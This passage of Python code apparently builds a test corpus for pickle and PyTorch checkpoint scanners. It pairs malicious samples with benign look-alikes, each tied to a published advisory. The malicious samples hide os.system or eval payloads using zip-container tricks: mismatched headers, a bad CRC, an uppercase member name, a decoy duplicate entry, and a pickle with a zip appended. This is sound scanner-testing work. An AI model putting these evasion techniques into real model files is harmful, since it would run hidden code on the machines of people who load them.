            PS_TESTS + "data/malicious1.zip",
        ),
        z(
            "zip_bad_crc",
            zip_checkpoint(inner, tricks={"bad_crc"}),
            "CRC-32 mismatch: torch (miniz, CRC checks compiled out) loads, zipfile raises.",
            JFROG + " (CVE-2025-10156)",
        ),
        z(
            "zip_local_name_mismatch",
            zip_checkpoint(inner, tricks={"local_name_mismatch"}),
            "Local header name differs from central directory name.",
            "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-7q5r-7gvp-wc82",
        ),
        z(
            "zip_data_descriptor",
            zip_checkpoint(inner, tricks={"data_descriptor"}),
            "Bit 0x08 with zero local sizes and a trailing data descriptor.",
            MLWARD,
        ),
        z(
            "zip_local_sizes_zero",
            zip_checkpoint(inner, tricks={"local_sizes_zero"}),
            "Zero local sizes/CRC without bit 0x08 (readers use the central directory).",
            MLWARD,
        ),
        z(
            "zip_local_flag_bits",
            zip_checkpoint(inner, tricks={"local_flag_bits"}),
            "Encryption bits set only in the local header (ignored by torch and zipfile).",
            "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-w8jq-xcqf-f792",
        ),
        z(
            "zip_uppercase_member_p0",
            zip_checkpoint(inner_p0, tricks={"uppercase_name"}),
            "archive/DATA.PKL with a protocol-0 pickle (no \\x80 magic): torch's "
            "case-insensitive lookup loads it; extension/magic based selection misses it.",
            MLWARD + " (miniz mz_zip_filename_compare is case-insensitive)",
            inner_p0,
            "posix.system",
        ),
        z(
            "zip_custom_prefix",
            zip_checkpoint(inner, folder="model_weights_v2"),
            "Record prefix is not 'archive'.",
            MLWARD,
        ),
        z(
            "zip_duplicate_member",
            zip_checkpoint(inner, decoy=pickle.dumps({"w": 1}, 2)),
            "Two entries named archive/data.pkl: benign decoy first, payload second.",
            MLWARD,
        ),
        z(
            "zip_deflate",
            zip_checkpoint(inner, tricks={"deflate"}),
            "data.pkl stored with deflate (payload bytes not visible in the file).",
            MLWARD,
        ),
        Sample(
            "pickle_with_appended_zip",
            _os_system_p4() + zip_checkpoint(pickle.dumps({"w": 1}, 2)),
            "Malicious pickle followed by a benign torch zip: zipfile.is_zipfile() is True "
            "(EOCD found) but torch sees no PK header at offset 0 and unpickles from the "
            "start.",
            MLWARD + " (torch.serialization._is_zipfile)",
            "os.system",
            "critical",
            kind="torch-legacy",
            shape="trailing",
            inner=inner,
        ),
        Sample(
            "torch_legacy_main_payload",
            legacy_torch_file(inner),
            "Legacy torch layout; the 4th pickle (main object) carries the payload.",
            PS_TESTS + "data/pytorch_magic_bypass.pt",
            "os.system",
            "critical",
            kind="torch-legacy",
            shape="multi",
            inner=inner,
        ),
        Sample(
            "torch_legacy_magic_eval",
            legacy_torch_file(pickle.dumps({}, 2), magic_pickle=magic_eval),
            "Legacy torch file whose 'magic number' pickle is eval('0x1950A86A...').",
            PS_ADV + "GHSA-97f8-7cmv-76j2",
            "builtins.eval",
            "critical",
            kind="torch-legacy",
            shape="multi",
            inner=magic_eval,
        ),
        Sample(
            "torch_legacy_tar_storages",
            legacy_torch_tar(inner),
            "Tar layout: 'storages' member is pickle.load()ed first by legacy_load.",
            "https://github.com/pytorch/pytorch/blob/main/torch/serialization.py",
            "os.system",
            "critical",
            kind="torch-tar",
            shape="container",
            inner=inner,
        ),
    ]


def build_malicious() -> list[Sample]:
    return [
        *_gadget_samples(),
        *_nested_pickle_samples(),
        *_indirection_samples(),
        *_opcode_variant_samples(),
        *_memo_and_name_samples(),
        *_stream_shape_samples(),
        *_bomb_samples(),
        *_scanner_tamper_samples(),
        *_container_samples(),
    ]


# ------------------------------------------------------------------------- benign


def _fake_tensor_state_dict(protocol: int = 2) -> bytes:
    """What ``torch.save({'w': tensor}, f)`` puts in data.pkl (protocol 2), hand-built."""
    b = PickleBuilder().proto(protocol)
    b.global_("collections", "OrderedDict").binput(0).empty_tuple().reduce().binput(1)
    b.mark()
    b.str_("weight")
    b.global_("torch._utils", "_rebuild_tensor_v2").binput(2)
    b.mark()
    # persistent id ('storage', torch.FloatStorage, '0', 'cpu', 4)
    b.mark().str_("storage").global_("torch", "FloatStorage").binput(3)
    b.str_("0").str_("cpu").binint(4).tuple_().binput(4).binpersid()
    b.binint(0).binint(2).binint(2).tuple2().binint(2).binint(1).tuple2().bool_(False)
    b.global_("collections", "OrderedDict").empty_tuple().reduce()
    b.tuple_().reduce().binput(5)
    b.setitems()
    b.stop()
    return b.getvalue()


def _numpy_array_pickle(module: str = "numpy.core.multiarray") -> bytes:
    """Shape of ``pickle.dumps(np.arange(3, dtype='<i8'), 2)``, hand-built."""
    b = PickleBuilder().proto(2)
    b.global_(module, "_reconstruct").binput(0)
    b.global_("numpy", "ndarray").binput(1)
    b.binint(0).tuple1().short_binbytes(b"b").tuple3().reduce().binput(2)
    b.mark()
    b.binint(1).binint(3).tuple1()
    b.global_("numpy", "dtype").binput(3)
    b.str_("i8").bool_(False).bool_(True).tuple3().reduce().binput(4)
    b.mark().binint(3).str_("<").none().none().none().binint(-1).binint(-1).binint(0)
    b.tuple_().build()
    b.bool_(False)
    b.bytes_(struct.pack("<3q", 0, 1, 2))
    b.tuple_().build()
    b.stop()
    return b.getvalue()


def build_benign() -> list[Sample]:
    import argparse
    import collections

    def s(
        sid: str,
        data: bytes,
        desc: str,
        *,
        kind: str = "pickle",
        shape: str = "clean",
        source: str = MLWARD,
    ) -> Sample:
        return Sample(sid, data, desc, source, "", "none", kind=kind, shape=shape)

    od = collections.OrderedDict([("a", 1), ("b", [1, 2])])
    ns = argparse.Namespace(lr=0.1, epochs=3, name="run")
    state = _fake_tensor_state_dict()
    od_memo = (
        PickleBuilder()
        .proto(4)
        .str_("collections")
        .memoize()
        .pop()
        .str_("OrderedDict")
        .memoize()
        .pop()
        .binget(0)
        .binget(1)
        .stack_global()
        .memoize()
        .empty_tuple()
        .reduce()
        .memoize()
        .mark()
        .str_("k")
        .binint(1)
        .setitems()
        .stop()
        .getvalue()
    )
    torch_dotted = (
        PickleBuilder()
        .proto(4)
        .stack_import("torch", "_utils._rebuild_tensor_v2")
        .pop()
        .stack_import("collections", "OrderedDict")
        .empty_tuple()
        .reduce()
        .stop()
        .getvalue()
    )
    getattr_const = (
        PickleBuilder()
        .proto(2)
        .global_("builtins", "getattr")
        .global_("torch", "_utils")
        .str_("_rebuild_tensor_v2")
        .tuple2()
        .reduce()
        .pop()
        .global_("torch", "float32")
        .stop()
        .getvalue()
    )
    shared = ["shared-string"]
    memo_reuse = pickle.dumps([shared] * 50 + [{"x": shared, "y": shared}], 4)
    small_nesting = PickleBuilder().proto(4).str_("leaf").memoize()
    for level in range(4):
        small_nesting.empty_list().mark().binget(level).binget(level).appends().memoize()
    memo_dag = small_nesting.stop().getvalue()
    inst_od = PickleBuilder().mark().inst("collections", "OrderedDict").stop().getvalue()
    newobj_od = (
        PickleBuilder()
        .proto(2)
        .global_("collections", "OrderedDict")
        .empty_tuple()
        .newobj()
        .stop()
        .getvalue()
    )
    legacy = legacy_torch_file(state)
    frames = pickle.dumps(list(range(20000)), 4)
    return [
        s("list_p0", pickle.dumps(["a", "b", "c"], 0), "pickle.dumps(['a','b','c'], 0)."),
        s("list_p2", pickle.dumps(["a", "b", "c"], 2), "pickle.dumps(list, 2)."),
        s("list_p4", pickle.dumps(["a", "b", "c"], 4), "pickle.dumps(list, 4), framed."),
        s(
            "dict_p5_bytearray",
            pickle.dumps({"blob": bytearray(b"abc"), "n": 1.5}, 5),
            "Protocol 5 with BYTEARRAY8.",
        ),
        s(
            "ordereddict_reduce_p2",
            pickle.dumps(od, 2),
            "OrderedDict via GLOBAL+REDUCE (look-alike of REDUCE calls).",
        ),
        s("ordereddict_reduce_p4", pickle.dumps(od, 4), "OrderedDict via memoized STACK_GLOBAL."),
        s(
            "ordereddict_stack_global_via_memo",
            od_memo,
            "collections.OrderedDict with STACK_GLOBAL args fetched by BINGET after POP "
            "(look-alike of memo indirection).",
        ),
        s(
            "argparse_namespace_newobj_build",
            pickle.dumps(ns, 2),
            "argparse.Namespace via copyreg.__newobj__/NEWOBJ + BUILD (fairseq/Lightning "
            "hparams style; look-alike of BUILD tricks).",
        ),
        s(
            "argparse_namespace_reconstructor_p0",
            pickle.dumps(ns, 0),
            "copyreg._reconstructor(Namespace, object, None) + BUILD: benign base 'object'.",
        ),
        s(
            "set_and_complex_builtins",
            pickle.dumps({"s": {1, 2}, "c": 1 + 2j}, 2),
            "builtins.set / builtins.complex via REDUCE (benign builtins).",
        ),
        s(
            "bytes_p0_codecs_encode",
            pickle.dumps(b"\x00\x01binary", 0),
            "Protocol-0 bytes become _codecs.encode(str,'latin1') REDUCE.",
        ),
        s(
            "unicode_p0_escapes",
            pickle.dumps({"ключ": "é\n\\"}, 0),
            "Protocol-0 UNICODE with raw-unicode-escape sequences.",
        ),
        s(
            "torch_state_dict_p2",
            state,
            "Hand-built torch.save data.pkl: OrderedDict, _rebuild_tensor_v2, FloatStorage, "
            "BINPERSID.",
        ),
        s(
            "torch_dotted_rebuild_tensor_p4",
            torch_dotted,
            "Protocol-4 dotted name 'torch' '_utils._rebuild_tensor_v2' (resolves to an "
            "allow-listed function).",
        ),
        s(
            "getattr_constant_torch",
            getattr_const,
            "builtins.getattr(torch._utils, '_rebuild_tensor_v2') with constant args on an "
            "allowed module, then torch.float32.",
        ),
        s(
            "numpy_array_core",
            _numpy_array_pickle(),
            "numpy.core.multiarray._reconstruct + ndarray + dtype (hand-built).",
        ),
        s(
            "numpy_array_underscore_core",
            _numpy_array_pickle("numpy._core.multiarray"),
            "numpy 2.x module path numpy._core.multiarray._reconstruct.",
        ),
        s("memo_reuse_flat", memo_reuse, "Many BINGETs of one shared list (not a bomb)."),
        s("memo_reuse_small_dag", memo_dag, "4 levels of doubling (16 leaves): small DAG."),
        s("inst_ordereddict_p0", inst_od, "INST 'collections OrderedDict' with no args."),
        s("newobj_ordereddict_p2", newobj_od, "NEWOBJ on collections.OrderedDict."),
        s("multi_frame_p4", frames, "Large list: pickle.dumps emits several FRAMEs."),
        s(
            "concatenated_benign",
            pickle.dumps([1, 2], 2) + pickle.dumps({"a": 1}, 4),
            "Two benign pickles back to back.",
            shape="multi",
        ),
        s(
            "torch_zip_checkpoint",
            zip_checkpoint(state),
            "Well-formed torch zip checkpoint.",
            kind="torch-zip",
            shape="container",
        ),
        s(
            "torch_zip_deflate_descriptor",
            zip_checkpoint(state, tricks={"deflate", "data_descriptor"}),
            "Valid zip with deflate + data descriptor (legit streaming writers).",
            kind="torch-zip",
            shape="container",
        ),
        s(
            "torch_zip_custom_prefix",
            zip_checkpoint(state, folder="resnet18"),
            "torch.save to 'resnet18.pt' uses prefix 'resnet18'.",
            kind="torch-zip",
            shape="container",
        ),
        s(
            "torch_legacy_file",
            legacy,
            "Benign legacy (pre-1.6) torch layout.",
            kind="torch-legacy",
            shape="multi",
        ),
    ]


MALICIOUS: list[Sample] = build_malicious()
BENIGN: list[Sample] = build_benign()
